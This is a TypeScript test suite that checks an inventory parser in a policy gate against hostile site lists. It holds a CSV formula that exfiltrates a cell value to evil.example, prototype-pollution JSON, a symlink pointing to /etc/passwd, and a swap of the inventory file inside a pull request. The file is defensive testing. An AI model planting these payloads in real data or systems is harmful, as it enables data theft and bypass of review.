import { expect, it } from 'vitest';
import { fail } from '../../src/domain/result.ts';
import { RP_CHANGE, type ScenarioOptions } from '../acceptance/scenario.ts';
import { ask, askFile, FRESH, serve } from '../inventory/support.ts';
import type { FileLike } from '../loopback/github/index.ts';
import { quietScenario } from './support-live.ts';
import { judge, shown } from './support.ts';

/* Files of sites that say otherwise than they look. */

const BODY = 'Target-Cohort: resource-publisher\n';
const HEAD = 'id,name,status,template-engine\n';
const ofFile = (path: string, content: string): ScenarioOptions => ({
  body: BODY,
  policy: (draft) => (draft.inventory = { provider: 'file', path }),
  world: { files: { [path]: content } },
});
const site = (id: string, more = '') =>
  `{"id":"${id}","status":"active","attributes":{"template-engine":"resource-publisher"${more}}}`;

const MALFORMED = { verdict: 'error', gate: 'closed', codes: ['inventory.malformed'] };
const ODD =
  '{"id":"T1","status":"active","__proto__":{"attributes":{"template-engine":"resource-publisher"},"cohorts":["resource-publisher"]},"constructor":{"prototype":{"status":"active"}}}';

it.each<[string, ScenarioOptions, object]>([
  // Csv: A CSV that spreadsheets and readers take differently: formulas, columns twice, rows that are shifted by a separator in a name, quotes that stay open.
  // Origin: OWASP, "CSV Injection"; CVE-2014-3524 (OpenOffice Calc); RFC 4180, which leaves much of this open.
  ['csv: a row that is shifted', ofFile('sites.csv', `${HEAD}T1,Hill, and Dale,active,template-manager\n`), MALFORMED],
  [
    'csv: a honest one',
    ofFile('sites.csv', `${HEAD}R1,"Hill, and ""Dale""",active,resource-publisher\r\n`),
    { verdict: 'allow', sites: 1 },
  ],
  // Precision: Numbers that lose digits on their way: two ids or serials become one, a total is met that was not, a value equals what a condition asks for.
  // Origin: RFC 8259, section 6 (integers beyond 2^53 do not interoperate); Twitter's `id_str` (2010).
  [
    'precision: in a CSV all digits stay, and two ids are two sites',
    ofFile(
      'sites.csv',
      'id,status,template-engine\n9007199254740993,active,resource-publisher\n9007199254740992,active,template-manager\n0010,active,resource-publisher\n',
    ),
    { verdict: 'allow', targeted: ['0010', '9007199254740993'], judgement: { resolution: { total: 3 } } },
  ],
  // Prototype: The inventory holds `__proto__` as a key, a column or a site: values that only one site states are to be found at every other, or membership is to come from nowhere.
  // Origin: CVE-2019-10744 (lodash: `defaultsDeep`); the class CWE-1321.
  [
    'prototype: T1 has no engine by it',
    ofFile('sites.json', `[${ODD},${site('R1')}]`),
    { verdict: 'allow', targeted: ['R1'] },
  ],
  ['prototype: nor in lines', ofFile('sites.ndjson', `${ODD}\n${site('R1')}`), { verdict: 'allow', targeted: ['R1'] }],
  ['prototype: in attributes', ofFile('sites.json', `[${site('R1', ',"__proto__":{"a":"b"}')}]`), MALFORMED],
  [
    'prototype: as a column and as the id of a site',
    ofFile(
      'sites.csv',
      'id,status,template-engine,__proto__,constructor\n__proto__,active,resource-publisher,x,y\nconstructor,active,template-manager,x,y\n',
    ),
    { verdict: 'allow', sites: 1, targeted: ['__proto__'] },
  ],
  [
    'prototype: a page that has what it needs only in its prototype has not',
    {
      inventory: {
        fault: () => ({
          status: 200,
          body: `{"__proto__":{"snapshot":"s","asOf":"2026-01-01T00:00:00Z","total":1,"sites":[${site('R1')}]}}`,
        }),
      },
    },
    MALFORMED,
  ],
])('%s', async (_, options, expected) => {
  expect(await judge(options)).toMatchObject(expected);
  for (const name of ['template-engine', 'attributes', 'cohorts', 'status', 'snapshot'])
    expect(Reflect.get({}, name)).toBeUndefined();
});

const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d7a'.repeat(16)}\nsize 12345\n`;

// File that is none: The inventory file is a symbolic link, a submodule, a folder, or the pointer that Git LFS leaves in place of the file: what is read is not the list of sites.
// Origin: Argo CD CVE-2022-24904 (symbolic links followed out of a repository); the pointer format of the Git LFS specification.
it.each<[string, string, Readonly<Record<string, FileLike>>]>([
  ['a link to another list', 'sites.csv', { 'sites.csv': { content: 'all.csv', mode: '120000' } }],
  ['a link out of the repository', 'sites.json', { 'sites.json': { content: '../../../etc/passwd', mode: '120000' } }],
  ['a pointer of Git LFS, as CSV', 'sites.csv', { 'sites.csv': POINTER }],
  ['a pointer of Git LFS, as JSON', 'sites.json', { 'sites.json': POINTER }],
  ['a folder', 'sites.csv', { 'sites.csv/part.csv': 'id\nR1\n' }],
  ['a header alone', 'sites.csv', { 'sites.csv': HEAD }],
])('file that is none: %s', async (_, path, changes) => {
  const own = await quietScenario({ ...ofFile(path, ''), approvedBy: ['alice'] });
  const whole = { 'all.csv': `${HEAD}X1,Hill,active,resource-publisher\n` };
  own.world.commit({ branch: 'main', author: 'erin', changes: { [path]: null, ...whole } });
  own.world.commit({ branch: 'main', author: 'erin', changes });
  const run = await own.run();
  expect(run).toMatchObject({ gate: 'closed', verdict: expect.stringMatching(/error|deny/) });
  expect(run.sites ?? 0).toBe(0);
});

it('csv: a formula is a name', async () => {
  const row = 'T1,"=HYPERLINK(""https://evil.example?""&A1,""x"")",active,template-manager\n';
  const run = await judge({ ...ofFile('sites.csv', `${HEAD}${row}`), manifest: 'sites: [T1]\n' });
  expect(run).toMatchObject({ verdict: 'deny', codes: expect.arrayContaining(['site.outside-cohort']) });
  expect(shown(run)).toContain('=HYPERLINK');
});

it.each([
  ['a column twice but for blanks', 'id,status,template-engine, template-engine\nT1,active,x,y\n'],
  ['a quote that stays open', `${HEAD}R1,"Hill,active,resource-publisher\nT1,Dale,active,template-manager\n`],
  ['a quote in the middle', `${HEAD}R1,Hill "x",active,resource-publisher\n`],
  ['other separators', HEAD.replaceAll(',', ';')],
])('csv: %s', async (_, content) => {
  expect(await askFile('sites.csv', content)).toMatchObject(fail({ code: 'inventory.malformed' }));
});

const LIST = 'inventory/sites.csv';
const rows = (more: string, region = '') =>
  `id,status,template-engine,region\nR1,active,resource-publisher,north\nR2,active,resource-publisher,${region}\n${more}`;

// File of the pull request: The pull request brings its own list of sites along: sites moved into the cohort, or those that would offend left out.
// Origin: GitHub Security Lab, "Preventing pwn requests"; Codecov (2021): a file that everybody took for given was the one that was changed.
it.each([
  ['one that would offend less', rows('', 'south'), ['policy.changed', 'site.unproven']],
  ['none', null, ['policy.changed', 'policy.invalid', 'site.unproven']],
])('file of the pull request: %s does not count, until it is merged', async (_, file, codes) => {
  const own = await quietScenario({
    ...ofFile(LIST, rows('')),
    approvedBy: ['alice'],
    manifest: 'requires: region in (north, south)\n',
    changes: { ...RP_CHANGE, [LIST]: file },
  });
  // Read from the default branch: R2 is still there, and nobody knows where.
  expect(await own.run()).toMatchObject({ verdict: 'deny', gate: 'closed', codes, sites: 2 });
  own.world.commit({
    branch: 'main',
    author: 'erin',
    changes: { [LIST]: rows('R9,active,resource-publisher,south\n', 'south') },
  });
  expect(await own.run()).toMatchObject({ sites: 3 });
});

it.each(['NaN', 'Infinity', '0x10', '010', '+1', '[1]', '{"n":1}'])(
  'precision: a serial of %s is not believed',
  async (serial) => {
    const answer = await askFile('sites.json', `[${site('R1', `,"serial":${serial}`)}]`);
    expect(answer).toMatchObject(fail({ code: 'inventory.malformed' }));
  },
);

it.each([
  ['9007199254740993', '9007199254740993', true],
  ['9007199254740993', '9007199254740992', false],
  ['1e400', 'Infinity', false],
  ['1.10', '1.10', true],
  ['1.10', '1.1', false],
  ['-9007199254740993', '9007199254740993', false],
])('precision: %s is compared as it is written: with %s', async (serial, value, is) => {
  const answer = await askFile('sites.json', `[${site('R1', `,"serial":${serial}`)}]`, {
    targets: { kind: 'sites', ids: ['R1'] },
    forbids: [`serial in (${value})`],
  });
  expect(answer.ok && answer.value.violations.some(({ kind }) => kind === 'incapable')).toBe(is);
});

it('precision: an id is a text, and a total a whole number', async () => {
  const ids = await askFile('sites.json', '[{"id":9007199254740993},{"id":9007199254740992}]');
  expect(ids).toMatchObject(fail({ code: 'inventory.malformed' }));
  for (const total of ['1.5', 'null', '1e400']) {
    const body = `{"snapshot":"s","asOf":"${FRESH}","total":${total},"sites":[]}`;
    const { url } = await serve({ fault: () => ({ status: 200, body }) });
    expect(await ask(url)).toMatchObject(fail({ code: 'inventory.malformed' }));
  }
});
